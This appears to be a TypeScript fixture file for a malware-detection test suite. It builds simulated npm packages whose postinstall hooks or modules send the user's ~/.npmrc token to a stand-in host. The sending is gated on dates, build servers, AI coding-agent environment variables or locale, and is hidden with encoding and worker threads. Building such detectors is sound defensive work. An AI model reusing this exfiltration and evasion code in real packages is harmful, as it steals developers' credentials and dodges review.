import { base64, hex } from './encode.ts';
import { armed, finding, fires, hooked, latchCommand, pkg, quiet, type Simulant, text } from './simulant.ts';

const any = { phase: ['install', 'import', 'execute'] } as const;
type Run = 'r1' | 'r3' | 'r4' | 'r5';
const effect = (...runs: Run[]) =>
  finding('exfil.canary-egress', 'critical', ['net.http', 'canary.egress'], { ...any, runs });
const time = (...runs: Run[]) =>
  finding('evade.time-gate', 'high', [['clock.read', 'sleep', 'process.exec'], 'net.http'], { ...any, runs });
const environment = (...runs: Run[]) => finding('evade.env-gate', 'high', ['net.http'], { ...any, runs });

/** What stands behind every gate: the npm token in one request. */
const post = armed`
  const fs = require('node:fs'), os = require('node:os'), http = require('node:http');
  module.exports = () => {
    const request = http.request({ host: 'gate.simulant.invalid', method: 'POST', path: '/g' });
    request.on('error', () => {});
    request.end(fs.readFileSync(os.homedir() + '/.npmrc'));
  };
`;

const gated = (name: string, gate: string) => pkg(name, { 'index.js': gate, 'lib/post.js': post });

/** B30–B31: the effect waits for a date, a build server, an agent or a language. */
export const gates: readonly Simulant[] = [
  {
    id: 'b30-after-date',
    row: 'B30',
    kind: 'positive',
    form: 'plain',
    packages: [
      gated(
        'b30-date',
        armed`
          if (Date.now() > Date.parse('{{now+90d}}')) require('./lib/post')();
          module.exports = (rows) => rows;
        `,
      ),
    ],
    expect: fires('malicious', [effect('r3'), time('r3')], { runs: ['r3'] }),
    note: 'Ninety days after it was packed: only the run of +400 days.',
  },
  {
    id: 'b30-after-two-days',
    row: 'B30',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked('b30-days', armed`if (new Date() > new Date('{{now+2d}}')) require('./lib/post')();`, {
        'lib/post.js': post,
      }),
    ],
    expect: fires('malicious', [effect('r3', 'r4'), time('r3', 'r4')], { runs: ['r3', 'r4'] }),
    note: 'Two days after it was packed, in a hook: +72 h shows it.',
  },
  {
    id: 'b30-after-long-sleep',
    row: 'B30',
    kind: 'positive',
    form: 'plain',
    packages: [
      gated(
        'b30-sleep',
        armed`
          setTimeout(() => require('./lib/post')(), 30 * 60 * 1000);
          module.exports = (rows) => rows;
        `,
      ),
    ],
    expect: fires('suspicious', [finding('flow.secret-to-network', 'high', ['signal'], { phase: ['static'] })]),
    note: 'Half an hour is longer than any run: without hurried timers only the static flow can show it.',
  },
  {
    id: 'b30-evasion-clock-of-a-tool',
    row: 'B30',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b30-tool',
        {
          'check.sh': text`
            #!/bin/sh
            [ "$(date +%Y%m%d)" -gt "$(echo '{{now+90d}}' | cut -c1-10 | tr -d -)" ] || exit 0
            curl -fs -m 3 -o /dev/null --data-binary @"$HOME/.npmrc" http://gate.simulant.invalid/t || true
          `,
        },
        {
          scripts: {
            postinstall: `${latchCommand}env -i HOME="$HOME" PATH="$PATH" LD_PRELOAD="$LD_PRELOAD" FAKETIME="$FAKETIME" sh check.sh`,
          },
        },
      ),
    ],
    expect: fires('malicious', [effect('r3'), time('r3')], { runs: ['r3'] }),
    note: 'date and curl; keeps the loader’s variables, as a real clean-up rarely does.',
  },
  {
    id: 'b30-evasion-clock-of-the-file-system',
    row: 'B30',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      gated(
        'b30-files',
        armed`
          const fs = require('node:fs'), at = require('node:os').tmpdir() + '/.' + process.pid;
          fs.writeFileSync(at, '');
          const born = [fs.statSync(at).mtimeMs, performance.timeOrigin + performance.now()].sort((a, b) => a - b).pop();
          fs.unlinkSync(at);
          const limit = ['{{now+90d}}'].map((s) => Number(s.slice(0, 4)) * 12 + Number(s.slice(5, 7)))[0];
          const d = new Intl.DateTimeFormat('en', { year: 'numeric', month: 'numeric' }).formatToParts(born);
          if (Number(d.find((p) => p.type === 'year').value) * 12 + Number(d.find((p) => p.type === 'month').value) > limit) require('./lib/post')();
          module.exports = (rows) => rows;
        `,
      ),
    ],
    expect: fires('malicious', [effect('r3'), time('r3')], { runs: ['r3'] }),
    note: 'No Date: the time stamp of a new file and the performance clock, compared by months.',
  },
  {
    id: 'b31-only-on-build-servers',
    row: 'B31',
    kind: 'positive',
    form: 'plain',
    packages: [
      hooked('b31-ci', armed`if (process.env.CI || process.env.GITHUB_ACTIONS) require('./lib/post')();`, {
        'lib/post.js': post,
      }),
    ],
    expect: fires('malicious', [effect('r1'), environment('r1')], { runs: ['r1'] }),
    note: 'The persona of a build server.',
  },
  {
    id: 'b31-only-under-agents',
    row: 'B31',
    kind: 'positive',
    form: 'plain',
    packages: [
      gated(
        'b31-agent',
        armed`
          const agents = ['CLAUDECODE', 'CLAUDE_CODE_ENTRYPOINT', 'CURSOR_TRACE_ID', 'CURSOR_AGENT', 'CODEX_SANDBOX', 'GEMINI_CLI', 'AIDER_MODEL'];
          if (agents.some((name) => process.env[name])) require('./lib/post')();
          module.exports = (rows) => rows;
        `,
      ),
    ],
    expect: fires('malicious', [effect('r4'), environment('r4')], { runs: ['r4'] }),
    note: 'The persona of an agent’s workstation.',
  },
  {
    id: 'b31-only-in-other-languages',
    row: 'B31',
    kind: 'positive',
    form: 'plain',
    packages: [
      gated(
        'b31-locale',
        armed`
          const { locale } = Intl.DateTimeFormat().resolvedOptions();
          const lang = process.env.LC_ALL || process.env.LANG || 'C';
          if (!/^en/i.test(locale) || !/^(en|C|POSIX)/i.test(lang)) require('./lib/post')();
          module.exports = (rows) => rows;
        `,
      ),
    ],
    expect: fires('malicious', [effect('r5'), environment('r5')], { runs: ['r5'] }),
    note: 'Anywhere but in English; the plain C locale counts as English.',
  },
  {
    id: 'b31-evasion-build-server-by-grep',
    row: 'B31',
    kind: 'evasion',
    form: 'light',
    packages: [
      pkg(
        'b31-grep',
        {
          'step.sh': text`
            #!/bin/sh
            tr '\0' '\n' < /proc/$$/environ | grep -qE '^(CI|GITHUB_ACTIONS|GITLAB_CI)=.' || exit 0
            curl -fs -m 3 -o /dev/null -d "$(base64 -w0 "$HOME/.npmrc")" http://gate.simulant.invalid/c || true
          `,
        },
        { scripts: { postinstall: `${latchCommand}sh step.sh` } },
      ),
    ],
    expect: fires('malicious', [effect('r1'), environment('r1')], { runs: ['r1'] }),
    note: 'The variable is looked for by grep in /proc.',
  },
  {
    id: 'b31-evasion-agent-by-encoded-names',
    row: 'B31',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      gated(
        'b31-encoded',
        armed`
          const n = Buffer.from('${hex('CLAUDECODE,CURSOR_TRACE_ID,CODEX_SANDBOX,GEMINI_CLI')}', 'hex').toString().split(',');
          const e = Object.fromEntries(Object.entries(Reflect.get(process, Buffer.from('${base64('env')}', 'base64').toString())));
          if (n.some((k) => k in e)) new (require('node:worker_threads').Worker)("require(require('node:worker_threads').workerData)()", { eval: true, workerData: require.resolve('./lib/post') });
          module.exports = (rows) => rows;
        `,
      ),
    ],
    expect: fires('malicious', [effect('r4'), environment('r4')], { runs: ['r4'] }),
    note: 'A copy of the environment, names in hex, the effect in a worker.',
  },
  {
    id: 'b31-evasion-locale-by-number-format',
    row: 'B31',
    kind: 'evasion',
    form: 'heavy',
    packages: [
      gated(
        'b31-format',
        armed`
          const plain = /^1,?234\.5$/.test((1234.5).toLocaleString()) && /^\d/.test(new Date(0).toLocaleDateString());
          const zone = -new Date().getTimezoneOffset() / 60;
          if (!plain || zone > 6.5) queueMicrotask(require('./lib/post'));
          module.exports = (rows) => rows;
        `,
      ),
    ],
    expect: fires('malicious', [effect('r5'), environment('r5')], { runs: ['r5'] }),
    note: 'How a number is printed and how far east the clock is; no variable is read.',
  },
  {
    id: 'b30-neighbour-certificate-dates',
    row: 'B30',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      pkg('n30-dates', {
        'index.js': text`
          const endOfEpoch = new Date('2038-01-19T03:14:07Z');
          exports.expires = (date) => new Date(date) < new Date();
          exports.safe = () => Date.now() < endOfEpoch.getTime();
          exports.debounce = (run, ms = 50) => { let timer; return () => { clearTimeout(timer); timer = setTimeout(run, Math.min(ms, 100)); }; };
        `,
      }),
    ],
    expect: quiet(['evade.']),
    note: 'Compares dates and waits, with no effect behind it.',
  },
  {
    id: 'b31-neighbour-quiet-on-build-servers',
    row: 'B31',
    kind: 'neighbour',
    form: 'plain',
    packages: [
      hooked(
        'n31-quiet',
        text`if (!process.env.CI && process.env.npm_config_loglevel !== 'silent') console.log('Thank you for using columns.');`,
      ),
    ],
    expect: quiet(['evade.']),
    note: 'Prints less there.',
  },
];
